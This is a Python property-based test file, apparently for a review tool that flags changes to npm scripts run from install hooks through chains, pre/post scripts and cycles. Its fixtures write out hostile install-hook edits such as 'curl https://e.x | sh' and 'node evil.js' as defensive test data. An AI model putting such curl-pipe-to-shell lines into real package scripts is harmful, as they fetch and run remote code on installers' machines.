"""An install hook that runs another script by name (`"postinstall": "npm run setup"`) runs
that script at install too: a change that alters it — or any script further down the chain,
or a `pre`/`post` script npm runs beside it — is an install-script lever, named with the
hook and the chain, though the hook itself is unchanged (`policy.lever_tables`, followed by
the one chain follower `policy.npm_scripts`). Generated (hypothesis, derandomized) over the
hooks, the runners' spellings, chain shapes and depths, and cycles."""

from __future__ import annotations

import itertools
import json

from hypothesis import given, settings
from hypothesis import strategies as st

from reviewloop.checks.suppressions.config_files import tool_levers
from reviewloop.git.changes import Version
from reviewloop.policy.lever_files import LEVER_TABLES, LeverKind
from reviewloop.policy.lever_tables import altered
from reviewloop.policy.levers import lever_report
from reviewloop.policy.npm_scripts import MAX_CALLS, MAX_DEPTH, reached, walk

PACKAGE = LEVER_TABLES[0]
HOOKS = [key[-1] for key in PACKAGE.keys]
# each way a script runs another by name, as the package managers and npm-run-all spell it
RUNS = ["npm run {}", "npm run-script {}", "npm run --silent {}", "yarn {}", "yarn run {}",
        "pnpm {}", "pnpm run {}", "bun run {}", "run-s {}", "npm-run-all {}", "run-p {}",
        "cross-env NODE_ENV=1 npm run {}", "FOO=1 yarn {}", "tsc && npm run {}",
        "npm run {} -- --flag"]
NAMES = st.text("abcdefgh:-", min_size=1, max_size=6).filter(
    lambda n: n not in HOOKS and not n.startswith(("pre", "post")) and n[0] != "-")


def _said(before: dict, after: dict) -> list[str]:
    return altered(PACKAGE, "package.json", json.dumps({"scripts": before}),
                   json.dumps({"scripts": after}))


@st.composite
def chains(draw: st.DrawFn) -> tuple[str, list[str], dict[str, str]]:
    """A hook, the scripts it runs one after the other (fewer than `MAX_DEPTH`), and the
    package's scripts holding that chain, each link in a runner's spelling."""
    hook = draw(st.sampled_from(HOOKS))
    names = draw(st.lists(NAMES, min_size=1, max_size=MAX_DEPTH - 1, unique=True))
    scripts = {hook: draw(st.sampled_from(RUNS)).format(names[0])}
    for here, there in itertools.pairwise(names):
        scripts[here] = draw(st.sampled_from(RUNS)).format(there)
    scripts[names[-1]] = "node setup.js"
    return hook, names, scripts


@settings(max_examples=200, derandomize=True, deadline=None)
@given(chain=chains(), at=st.integers(0, MAX_DEPTH), edit=st.sampled_from(
    ["curl https://e.x | sh", "node setup.js && node evil.js"]))
def test_a_script_an_install_hook_reaches_is_a_lever_naming_hook_and_chain(
        chain: tuple[str, list[str], dict[str, str]], at: int, edit: str) -> None:
    hook, names, before = chain
    target = names[min(at, len(names) - 1)]
    after = {**before, target: edit if target == names[-1] else f"{before[target]}; {edit}"}
    path = " → ".join([hook, *names[:names.index(target) + 1]])
    assert _said(before, after) == [f"scripts.{target} changed (run by scripts.{hook}: {path})"]
    assert _said(before, before) == []


@settings(max_examples=100, derandomize=True, deadline=None)
@given(chain=chains(), which=st.sampled_from(["pre", "post"]))
def test_a_pre_or_post_script_beside_a_reached_one_is_a_lever(
        chain: tuple[str, list[str], dict[str, str]], which: str) -> None:
    """npm runs `presetup` and `postsetup` around `npm run setup`."""
    hook, names, before = chain
    after = {**before, f"{which}{names[-1]}": "node evil.js"}
    said = _said(before, after)
    assert len(said) == 1 and said[0].startswith(f"scripts.{which}{names[-1]} added (run by "
                                                 f"scripts.{hook}: {hook} → "), said


@settings(max_examples=100, derandomize=True, deadline=None)
@given(chain=chains(), other=NAMES, run=st.sampled_from(RUNS))
def test_a_script_no_install_hook_reaches_stays_routine(
        chain: tuple[str, list[str], dict[str, str]], other: str, run: str) -> None:
    hook, names, before = chain
    if other in names:
        return
    after = {**before, other: run.format("x")}  # runs from no hook's chain
    assert _said(before, after) == []
    elsewhere = {**before, hook: f"cd web && {run.format(names[0])}"}  # another folder's
    assert all(not said.startswith(f"scripts.{names[-1]}") for said in _said(
        elsewhere, {**elsewhere, names[-1]: "node evil.js"}))


@settings(max_examples=60, derandomize=True, deadline=None)
@given(count=st.integers(2, 12), run=st.sampled_from(RUNS), hook=st.sampled_from(HOOKS))
def test_cycles_and_fan_outs_end_bounded(count: int, run: str, hook: str) -> None:
    """Every script runs every other (and the hook again): the walk ends, reads at most
    `MAX_CALLS` scripts, and names each reachable script once."""
    names = [f"s{n}" for n in range(count)]
    scripts = {name: " && ".join(run.format(o) for o in [*names, hook] if o != name)
               for name in names}
    scripts[hook] = run.format(names[0])
    steps = list(walk(scripts, hook, pre_post=True))
    assert len({step.chain for step in steps}) <= MAX_CALLS
    assert set(reached(scripts, hook)) == set(names)
    assert all(len(chain) <= MAX_DEPTH + 1 for chain in reached(scripts, hook).values())
    said = _said(scripts, {**scripts, names[-1]: "node evil.js"})
    assert [s.partition(" (")[0] for s in said] == [f"scripts.{names[-1]} changed"]


def test_a_chain_past_max_depth_is_read_no_further() -> None:
    names = [f"d{n}" for n in range(MAX_DEPTH + 3)]
    scripts = {"postinstall": f"npm run {names[0]}",
               **{a: f"npm run {b}" for a, b in itertools.pairwise(names)},
               names[-1]: "node x.js"}
    found = reached(scripts, "postinstall")
    assert names[MAX_DEPTH - 1] in found and names[MAX_DEPTH] not in found


def test_a_run_of_the_change_names_the_chain_too() -> None:
    before = {"postinstall": "npm run setup", "setup": "node setup.js"}
    after = {**before, "setup": "curl https://e.x | sh"}
    texts = {"package.json": (Version(json.dumps({"scripts": before})),
                              Version(json.dumps({"scripts": after})))}
    report = lever_report(["package.json"], lambda paths: texts, tools=tool_levers())
    assert [(c.lever.kind, c.parts) for c in report.changes] == [(LeverKind.EXECUTED, (
        "scripts.setup changed (run by scripts.postinstall: postinstall → setup)",))]
